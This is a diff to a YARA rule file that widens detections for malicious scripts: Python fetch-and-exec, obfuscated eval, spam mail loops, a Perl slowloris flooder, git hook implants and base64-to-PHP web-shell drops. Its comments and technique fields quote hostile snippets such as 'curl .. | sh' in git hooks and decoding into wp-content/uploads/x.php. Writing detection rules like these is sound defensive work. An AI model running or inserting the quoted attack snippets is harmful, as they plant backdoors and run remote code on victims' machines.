@@ -481,10 +481,11 @@ rule bot_decode_eval_script : obfuscation bot
         description = "Perl/Python code evaluating decoded or decompressed data (eval unpack/decode_base64, exec b64decode/zlib/marshal/chr-join)"
         severity = "high"
         technique = "eval unpack u => q{...}; eval pack 'H*', ...; exec(zlib.decompress(...)); exec(''.join(map(chr, [...]))); exec(bytes.fromhex(...))"
-        seen = "bediger4000,nikicat,shipcod3,tennc"
+        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5"
     strings:
         $p1 = /\beval\s{0,4}\(?\s{0,4}(MIME::Base64::)?(decode_base64|unpack\s{0,4}\(?\s{0,4}["']?(u|H\*|m0?|B\*)["']?\s{0,4}(,|=>)|pack\s{0,4}\(?\s{0,4}["']?[HB]\*["']?\s{0,4}(,|=>)|uncompress\s{0,2}\(|Compress::Zlib::uncompress)/
-        $p2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(base64\.(b64decode|b32decode|b16decode|decodebytes|decodestring|a85decode)|zlib\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|binascii\.(unhexlify|a2b_base64)|lzma\.decompress|bz2\.decompress|gzip\.decompress|__import__\s{0,2}\(\s{0,2}['"](base64|zlib|marshal|codecs|binascii)['"])/
+        // (round 10, heldout5: also through compile(), exec(compile(b64decode(c), "<s>", "exec")))
+        $p2 = /\b(exec|eval)\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?(base64\.(b64decode|b32decode|b16decode|decodebytes|decodestring|a85decode)|zlib\.decompress|marshal\.loads|codecs\.decode|bytes\.fromhex|binascii\.(unhexlify|a2b_base64)|lzma\.decompress|bz2\.decompress|gzip\.decompress|__import__\s{0,2}\(\s{0,2}['"](base64|zlib|marshal|codecs|binascii)['"])/
         $p3 = /\b(exec|eval)\s{0,2}\(\s{0,2}(str\s{0,2}\(\s{0,2})?(b?['"]['"]\s{0,2}\.\s{0,2}join\s{0,2}\(\s{0,2}(map\s{0,2}\(\s{0,2}chr\b|\[?\s{0,2}chr\s{0,2}\()|bytes\s{0,2}\(\s{0,2}\[)/
         // a reversed text run: Perl eval reverse, Python exec(s[::-1])
         $r1 = /\beval\s{0,4}\(?\s{0,4}(scalar\s{1,4})?reverse\b/
@@ -733,7 +734,7 @@ rule bot_smtp_spam_loop_script : bot mailer
         description = "Script sending mail to every address of a list (SMTP library, raw SMTP or sendmail inside a loop over a list file or argv)"
         severity = "high"
         technique = "a whole message sent per list entry: sendmail(%m) / MIME::Lite / smtplib .sendmail / | sendmail, or MAIL FROM then RCPT TO, inside while(<LIST>) / for x in open(f) / while read"
-        seen = "pre"
+        seen = "pre,heldout5"
     strings:
         // a whole message sent by one call
         $w1 = /\bsendmail\s{0,4}\(\s{0,4}%/
@@ -750,6 +751,9 @@ rule bot_smtp_spam_loop_script : bot mailer
         $w10 = "--mail-rcpt" ascii
         $w11 = "->send;" ascii
         $w12 = /\bsendmail\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4}[,)]/
+        // round 10 (heldout5): mail(1)-likes with options before the subject
+        // (mailx -r "$from" -a f.pdf -s "$s" -- "$to" < body)
+        $w13 = /\b(mail|mailx|mutt|s-nail)\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,120}"|'[^'\n]{0,120}'|[^\s"']{1,60})\s{1,4}){1,6}-s\s/
         // or an SMTP transaction step by step: sender, then recipient
         $mf = /->\s{0,2}mail\s{0,2}\(|[(,\[=]\s{0,4}[bf]?["']MAIL FROM|\bprint\s{1,4}\{?\s{0,2}\$\w{1,30}\s{0,2}\}?\s{1,4}["']MAIL FROM|\b(send|sendall|write|syswrite|puts|print)\s{0,2}\(\s{0,2}(\$?[\w.]{1,30}\s{0,2},\s{0,2})?b?["']MAIL FROM|\b(echo|printf)\s{1,4}(-e\s{1,4})?["']MAIL FROM|\\r?\\nMAIL FROM/ nocase
         $rt = /->\s{0,2}(to|recipient)\s{0,2}\(|RCPT TO/
@@ -763,6 +767,10 @@ rule bot_smtp_spam_loop_script : bot mailer
         $rv7 = /\b(sendmail|mailx|mutt|mail -s) [^\n|;]{0,120}["']?\$\{?\w{1,30}/
         $rv8 = /--to\s{1,4}["']?\$/
         $rv9 = /--mail-rcpt\s{1,4}["']?\$/
+        // round 10 (heldout5): mail(1) with its options first and the recipient last,
+        // a variable as the whole argument (mail -a "From: $F" -s "$S" "$to"); a
+        // subject or header holding a variable is not the recipient
+        $rv10 = /\b(mail|mailx|mutt|s-nail)\s{1,4}-[^\n|;]{0,200}\s(\$\{?\w{1,30}\}?|"\$\{?\w{1,30}\}?")\s{0,4}(\n|;|&|\||<|\)|\\\n)/
         // the SMTP machinery the send step belongs to
         $m1 = /Net::SMTP|Mail::Sendmail|MIME::Lite|Email::Sender|Mail::Mailer|Email::Send\b|Email::Stuffer/
         $m6 = "smtp://" ascii
@@ -770,6 +778,8 @@ rule bot_smtp_spam_loop_script : bot mailer
         $m3 = /MAIL FROM/ nocase
         $m4 = /\bsendmail\b/
         $m5 = /\b(mailx|mutt|swaks|mail -s) /
+        // (round 10) options before the subject: mail -a "Content-Type: text/html" -s ..
+        $m7 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,120}"|'[^'\n]{0,120}'|[^\s"']{1,60})\s{1,4}){1,6}-s\s/
         // a loop over a list
         $loop = /\bfor(each)?\s{0,4}(my\s{1,4})?\$\w{1,30}\s{0,4}\(\s{0,4}[0-9]{1,3}\s{0,4}\.\.\s{0,4}(\$#\w{1,30}|scalar|@\w{1,30}|\$\w{1,30})|\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?<\s{0,2}\$?\w{1,30}\s{0,2}>|\bfor(each)?\s{0,4}(my\s{1,4})?(\$\w{1,30}\s{0,4})?\(\s{0,4}[@<]\s{0,2}\$?\w{1,30}\s{0,2}>?\s{0,4}\)|\bfor\s{1,4}\w{1,30}\s{1,4}in\s{1,4}[^\n;:]{1,120}(:|;\s{0,4}do\b|\n\s{0,8}do\b)|\bwhile\s{1,4}(IFS=\S{0,4}\s{1,4})?read\s/
         // a loop that itself reads the list (file, stdin, cat); round 7: also
@@ -1165,8 +1175,8 @@ rule bot_fetch_exec_python : bot
     meta:
         description = "Python script that downloads code and execs it, or saves a download, marks it executable and runs it"
         severity = "high"
-        technique = "exec(urlopen(URL).read()); exec(requests.get(URL).text); urlretrieve(URL, F) + os.chmod(F, 0o755) + subprocess/os.system"
-        seen = "bediger4000,nikicat,shipcod3,tennc"
+        technique = "exec(urlopen(URL).read()); exec(requests.get(URL).text); c = fetch(); exec(compile(b64decode(c[::-1]), '<s>', 'exec')); urlretrieve(URL, F) + os.chmod(F, 0o755) + subprocess/os.system"
+        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5"
     strings:
         $e1 = /\bexec\s{0,2}\(\s{0,2}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
         $e2 = /\bexec\s{0,2}\(\s{0,2}requests\.get\s{0,2}\([^\n]{0,200}\)\s{0,2}\.(text|content)/
@@ -1174,9 +1184,17 @@ rule bot_fetch_exec_python : bot
         // round 7: Python 2's exec statement; the fetched text compiled and exec'd
         $e4 = /\bexec\s{1,4}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
         $xc = /\bexec\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?[a-zA-Z_]\w{0,30}\s{0,2}[,)]/
+        // round 10 (heldout5): the fetched text run through decoders first, the
+        // decoders nested in any order, over a variable (the answer, however far
+        // it was received: a helper that tries mirror after mirror returns it)
+        $xd = /\b(exec|eval)\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?((base64|codecs|zlib|lzma|bz2|gzip|marshal|binascii)\s{0,2}\.\s{0,2})?(b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes|decompress|loads|unhexlify|a2b_base64)\s{0,2}\(\s{0,2}[a-zA-Z_(]/
+        // or the answer's text as it came: exec(c.decode()), exec(r.text, ns), exec(body[::-1])
+        $xt = /\bexec\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?[a-zA-Z_]\w{0,30}\s{0,2}(\.\s{0,2}(decode\s{0,2}\([^)\n]{0,20}\)|text|content)|\[\s{0,2}::\s{0,2}-1\s{0,2}\])\s{0,2}[,)]/
         $g1 = /\burlretrieve\s{0,2}\(/
         $g2 = /\burlopen\s{0,2}\(/
         $g3 = /\brequests\.get\s{0,2}\(/
+        // (round 10) other HTTP clients: httpx, urllib3, a requests Session, http.client
+        $g4 = /\b(httpx|urllib3)\s{0,2}\.\s{0,2}(get|request|stream|PoolManager|Client)\s{0,2}\(|\.getresponse\s{0,2}\(\s{0,2}\)|\brequests\s{0,2}\.\s{0,2}(post|request|Session)\s{0,2}\(/
         $c1 = /\bos\.chmod\s{0,2}\([^)\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|\b(493|511|365)\b)/
         $x1 = /\b(os\.system|subprocess\.\w{1,16}|os\.exec\w{1,3}|os\.popen|os\.spawn\w{1,3})\s{0,2}\(/
         // a download checked against a digest is a deployment step
@@ -1185,7 +1203,10 @@ rule bot_fetch_exec_python : bot
         filesize < 2MB and hs_lang_python and not hs_doc_file and
         (any of ($e*) or (any of ($g*) and $c1 and $x1 and not $ck) or
          // code = urlopen(u).read().decode(); exec(compile(code, ..)): the fetch just before
-         for any i in (1..#xc) : ( for any of ($g2, $g3) : ( $ in (@xc[i] - 300 .. @xc[i]) ) ))
+         for any i in (1..#xc) : ( for any of ($g2, $g3, $g4) : ( $ in (@xc[i] - 300 .. @xc[i]) ) ) or
+         // round 10: decoded or taken as text, the fetch up to 1,500 bytes before
+         for any i in (1..#xd) : ( for any of ($g2, $g3, $g4) : ( $ in (@xd[i] - 1500 .. @xd[i]) ) ) or
+         for any i in (1..#xt) : ( for any of ($g2, $g3, $g4) : ( $ in (@xt[i] - 1500 .. @xt[i]) ) ))
 }
 
 /* ---- payloads behind an encoding ---------------------------------------- */
@@ -2594,25 +2615,39 @@ rule bot_perl_slow_headers_flood : bot
         description = "Perl slow-headers (slowloris-like) flooder: many sockets each holding an unfinished HTTP request, fed a header at a time in a sleeping loop"
         severity = "high"
         technique = "for (1..$n) { $s = IO::Socket::INET->new(..); print $s \"GET /?$r HTTP/1.1\\r\\nHost: $h\\r\\n\"; push @s, $s } while (1) { print $_ \"X-a: \" . int(rand(5000)) . \"\\r\\n\" for @s; sleep 15 }"
-        seen = "none"
+        seen = "heldout5"
     strings:
-        $rl = /\b(GET|POST|HEAD) \/[^"'\n]{0,60} HTTP\/1\.[01]\\r\\n/
-        // or the path joined in: "GET /" . $p . " HTTP/1.1\r\n"
-        $rl2 = /["'](GET|POST|HEAD) \/["']\s{0,2}\.[^\n]{0,120}["'] HTTP\/1\.[01]\\r\\n/
+        // the request line, however the path is spelt between the method and the
+        // version: a literal, interpolated, joined ("GET /?" . int(rand(N)) . " HTTP/1.1\r\n"),
+        // a variable ("GET $p HTTP/1.1") or a format; the line end as \r\n, octal,
+        // hex or Socket's $CRLF (round 10: round 9 took a literal path or "GET /" . $p only)
+        $rl = /\b(GET|POST|HEAD|PUT) [\/\$%][^\n]{0,160}HTTP\/1\.[01](\\r\\n|\\015\\012|\\x0[dD]\\x0[aA]|["']\s{0,2}\.\s{0,2}\$CRLF|\$CRLF)/
+        // the blank line that ends a request, in any of those spellings
         $end = "\\r\\n\\r\\n" ascii
-        $so = /\bIO::Socket::(INET|IP|SSL)\s{0,2}->\s{0,2}new\s{0,2}\(|\bsocket\s{0,2}\(\s{0,2}(my\s{1,4})?[\$\w]{1,30}\s{0,2},\s{0,2}(PF_INET|AF_INET|2)\b/
+        $end2 = "\\015\\012\\015\\012" ascii
+        $end3 = "$CRLF$CRLF" ascii
+        // or the blank line written alone: print $s "\r\n"; syswrite($s, "\r\n")
+        $end4 = /\b(print\s{1,4}\{?\$\w{1,30}\}?\s{1,4}|syswrite\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2})"\\r\\n"\s{0,2}[;)]/
+        $so = /\bIO::Socket::(INET|IP|SSL)\s{0,2}->\s{0,2}new\s{0,2}\(|\bsocket\s{0,2}\(\s{0,2}(my\s{1,4})?[\$\w]{1,30}\s{0,2},\s{0,2}(PF_INET|AF_INET|2)\b|\bnew\s{1,4}IO::Socket::(INET|IP|SSL)\b/
         // many of them, opened in a counted loop and kept
         $n1 = /\b1\s{0,2}\.\.\s{0,2}\$\w{1,30}/
+        // (round 10) a C-style counter (literals: a regex keyed on `for` costs 6 M on PHP),
+        // or "until the pool holds N"
+        $n2 = "for (my $" ascii
+        $n4 = "for(my $" ascii
+        $n3 = /\b(while|until)\s{0,2}\(\s{0,2}(scalar\s{0,2}\(?\s{0,2})?@\w{1,30}\s{0,2}\)?\s{0,2}(<|>=|!=)\s{0,2}\$\w{1,30}/
         $k1 = /\bpush\s{0,2}\(?\s{0,2}@\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}/
         $k2 = /@\w{1,30}\s{0,2}=\s{0,2}(map|grep)\s{0,2}\{/
         // (or a hash of them walked with keys; a regex on `$h{$k} = $fh` or
         // `$a[$i] = f(` costs 400 M on PHP, where every line stores into an array)
         $k3 = /\bkeys\s{1,2}%\w{1,30}/
+        // (round 10) the socket stored straight into an array or hash slot (keyed on the class)
+        $k4 = /[\]}]\s{0,2}=\s{0,2}(new\s{1,4})?IO::Socket::(INET|IP|SSL)\b/
         // the pause between header lines
-        $sl = /\bsleep\s{0,2}\(?\s{0,2}\d|\bselect\s{0,2}\(\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},/
+        $sl = /\bsleep\s{0,2}\(?\s{0,2}[\d$]|\bselect\s{0,2}\(\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},\s{0,2}undef\s{0,2},|\busleep\s{0,2}\(/
     condition:
-        filesize < 512KB and hs_lang_perl and not hs_doc_file and ($rl or $rl2) and not $end and $so and $n1 and
-        any of ($k*) and $sl
+        filesize < 512KB and hs_lang_perl and not hs_doc_file and $rl and not any of ($end*) and $so and
+        any of ($n*) and any of ($k*) and $sl
 }
 
 /* An FTP password guesser in Perl: Net::FTP connections made in a loop over
@@ -2695,7 +2730,42 @@ private rule hs_git_hook_payload
         $p4 = "/dev/tcp/" ascii
         $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
         $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+        // round 10 (heldout5): a hook that plants a file: a blob it carries decoded into a
+        // file (echo B64 | base64 -d > f), or anything decoded into code or a temp dir
+        // (base64 -d > x.php, xxd -r -p > /tmp/x, openssl base64 -d -out x.sh); a hook
+        // that decodes the project's .env.b64 into .env writes data
+        $p7 = /[A-Za-z0-9+\/]{16}={0,2}['"]?\s{0,2}\|\s{0,2}(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>|\|\s{0,2}(sudo\s{1,4})?tee\s|-out\s)/
+        $p9 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}|\|\s{0,2}(sudo\s{1,4})?tee(\s{1,4}-a)?|-out)\s{0,2}["']?([^\s;|&]{0,200}\.(php[0-9s]?|phtml|phar|inc|sh|py|pl|cgi|so)\b|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/
+        // or reports the host it runs on to a bare address (a beacon: what a deploy
+        // hook calls is its CI's name)
+        $p8 = /\b(curl|wget)\s[^\n]{0,120}https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/][^\n]{0,200}\$\(\s{0,2}(hostname|whoami|id|uname|curl\s[^)\n]{0,60}ifconfig|cat\s{1,4}\/etc\/(passwd|hostname))\b/
     condition:
+        any of them
+}
+
+/* A shell script (or a hook, a crontab line) that writes PHP from encoded
+ * text: base64 or hex decoded and redirected into a .php file, or a blob
+ * that encodes a PHP tag ("<?php" is "PD9waHA" in base64) decoded into any
+ * file. A web shell planted in the docroot by something that is not PHP,
+ * so the PHP layer never sees the writer. Installers copy PHP files; they
+ * do not carry them encoded. (round 10, heldout5) */
+rule bot_shell_decode_drop_php : bot webshell
+{
+    meta:
+        description = "Shell code decoding base64/hex text into a PHP file (a web shell planted by a script, a hook or a cron job)"
+        severity = "high"
+        technique = "echo 'PD9waHAg..' | base64 -d > \"$ROOT/public/.well-known/ping.php\"; printf %s \"$B\" | base64 --decode > wp-content/uploads/x.php; xxd -r -p <<< 3c3f706870.. > f.php"
+        seen = "heldout5"
+    strings:
+        $d1 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}|\|\s{0,2}(sudo\s{1,4})?tee(\s{1,4}-a)?|-out)\s{0,2}["']?[^\s;|&]{0,200}\.(php[0-9s]?|phtml|phar|inc)\b/
+        // "<?php" / "<?=" / "<? " encoded (every alignment the encoder writes at the start), decoded
+        $b1 = /['"\s=](PD9waHA|PD89|PD8g)[A-Za-z0-9+\/=]{8,8000}['"]?\s{0,2}(\||;|\n)[^\n]{0,80}\bbase64\s{1,4}(-d|--decode|-D|-di)\b[^\n|;&]{0,80}>/
+        $b2 = /\bbase64\s{1,4}(-d|--decode|-D|-di)\b\s{0,4}<<<\s{0,2}["']?(PD9waHA|PD89|PD8g)[A-Za-z0-9+\/=]{8,8000}['"]?\s{0,2}>/
+        $h1 = /3c3f706870[0-9a-fA-F]{8,16000}['"]?[^\n]{0,40}\bxxd\b/
+    condition:
+        filesize < 512KB and not hs_doc_file and
+        (hs_lang_shell or hs_shebang or hs_crontab_text or
+         filename matches /^(pre-commit|post-commit|post-checkout|post-merge|pre-push|post-receive|post-update|post-rewrite)$/) and
         any of them
 }
 
@@ -2705,7 +2775,7 @@ rule bot_git_hook_implant : bot
         description = "Git hook (a file named post-merge, pre-commit, post-checkout...) that fetches and runs code, starts a hidden or temp-dir program in the background, or opens /dev/tcp"
         severity = "high"
         technique = ".git/hooks/post-merge: (curl -fsSL https://x/s.sh | sh) >/dev/null 2>&1 &; post-checkout: nohup \"$HOME/.local/share/.x/d\" >/dev/null 2>&1 &"
-        seen = "none"
+        seen = "heldout5"
     condition:
         filesize < 256KB and
         // by the hook's name, not its path: a rule that reads `filepath` makes the
@@ -2721,7 +2791,7 @@ rule bot_git_hook_install : bot
         description = "Script writing a git hook that fetches and runs code or starts a hidden program, or pointing core.hooksPath at its own directory of such hooks"
         severity = "high"
         technique = "for g in $(find ~ -name .git); do printf '#!/bin/sh\\n(curl .. | sh) &\\n' > $g/hooks/post-merge; chmod +x ..; done; git config --global core.hooksPath ~/.config/.h"
-        seen = "none"
+        seen = "heldout5"
     strings:
         $hk = /hooks\/(pre-commit|pre-push|pre-rebase|pre-merge-commit|post-merge|post-checkout|post-commit|post-rewrite|post-receive|pre-receive|post-update|prepare-commit-msg|commit-msg)\b|["'](pre-commit|pre-push|post-merge|post-checkout|post-commit|post-rewrite)["']/
         $hp = /\bcore\.hooksPath\b/
@@ -2735,6 +2805,9 @@ rule bot_git_hook_install : bot
         $p4 = "/dev/tcp/" ascii
         $p5 = /\bpython[0-9.]{0,4}\s{1,4}-c\s[^\n]{0,300}\b(urlopen|requests\.get)\b/
         $p6 = /\bbase64\s{1,4}(-d|--decode)\b[^\n]{0,40}\|\s{0,4}(ba)?sh\b/
+        $p7 = /[A-Za-z0-9+\/]{16}={0,2}['"]?\s{0,2}\|\s{0,2}(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>|\|\s{0,2}(sudo\s{1,4})?tee\s|-out\s)/
+        $p9 = /\b(base64\s{1,4}(-d|--decode|-D|-di)|xxd\s{1,4}(-r\s{1,4}-p|-p\s{1,4}-r|-r)|openssl\s{1,4}(enc\s{1,4})?-?(base64|a)\s{1,4}-d)\b[^\n|;&]{0,80}(>{1,2}|\|\s{0,2}(sudo\s{1,4})?tee(\s{1,4}-a)?|-out)\s{0,2}["']?([^\s;|&]{0,200}\.(php[0-9s]?|phtml|phar|inc|sh|py|pl|cgi|so)\b|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)/
+        $p8 = /\b(curl|wget)\s[^\n]{0,120}https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[:\/][^\n]{0,200}\$\(\s{0,2}(hostname|whoami|id|uname|curl\s[^)\n]{0,60}ifconfig|cat\s{1,4}\/etc\/(passwd|hostname))\b/
     condition:
         filesize < 512KB and not hs_doc_file and
         (hs_lang_shell or hs_shebang or hs_lang_python or hs_lang_perl) and
